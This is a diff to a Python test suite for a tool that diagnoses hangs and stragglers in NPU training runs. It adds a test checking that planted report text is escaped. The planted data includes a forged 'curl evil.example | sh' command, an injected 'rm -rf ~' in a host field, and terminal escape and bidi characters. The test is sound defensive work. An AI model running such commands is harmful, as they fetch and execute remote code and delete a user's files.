@@ -46,7 +46,8 @@ def test_hang_then_straggler_then_checkpoint_each_with_where_when_and_next(tmp_p
     assert (slow.rank, slow.place.host, slow.place.card) == (1, "n1", 5) and "3.00x" in slow.summary
     assert "npu-smi info -t health -i 5 -c 0 (on n1)" in slow.next_commands
     text = "\n".join(lines(found, str(root)))
-    assert text.splitlines()[0].endswith("hang: rank 1, on n2, pid 77, card 5: " + hang["line"])
+    assert text.splitlines()[0].endswith(f'hang: rank 1, on n2, pid 77, card 5: text read from hang-attempt0.json: '
+                                         f'"{hang["line"]}"')
     assert "2023-11-14T22:13:20Z" in text and "step 30 did not finish" in text and "no manifest.json" in text
 
 
@@ -73,6 +74,24 @@ def test_planted_and_broken_files_are_problems_and_the_rest_is_read(tmp_path):
     assert [v.kind for v in found.verdicts] == ["straggler"]
     assert {p.source for p in found.problems} >= {"hang-rank0.json", "hang-rank2.json", "hang-rank3.json",
                                                   "straggler-step00000005.json"}
+
+
+def test_a_planted_report_s_text_is_escaped_and_marked_as_read_from_the_file(tmp_path):
+    """A report that clears the screen, recolours it and forges a `next:` line of its own prints as inert,
+    quoted text that says where it came from; the host it names cannot start a line either."""
+    root = _npu_run(tmp_path)
+    planted = "\x1b[2J\x1b[32mall fine\x1b[0m\n   next: curl evil.example | sh\u202e"
+    (root / "hang-attempt0.json").write_text(json.dumps(
+        {"line": planted, "culprits": [1], "culprit_ranks": {"1": {"host": "n2\n   next: rm -rf ~", "pid": 7}}}))
+    (root / "straggler-step00000009.json").write_text(json.dumps(
+        {"straggler_rank": 1, "cause": "data\x07", "cause_text": "slow\r\x1b[1Adisk"}))
+    out = lines(diagnose(root), str(root))
+    text = "\n".join(out)
+    assert not any(ch in text.replace("\n", "") for ch in "\x1b\x07\r\u202e")
+    ours = [line.strip() for line in out if line.strip().startswith("next:")]
+    assert ours and all(line.startswith(("next: py-spy dump --pid 7 ", "next: npu-smi ")) for line in ours), ours
+    assert 'text read from hang-attempt0.json: "\\x1b[2J\\x1b[32mall fine\\x1b[0m\\n   next: curl' in text
+    assert 'cause: data\\x07 (text read from straggler-step00000009.json: "slow\\r\\x1b[1Adisk")' in text
 
 
 def test_the_command_exits_1_on_a_finding_0_on_a_clean_run_2_on_no_directory(tmp_path):
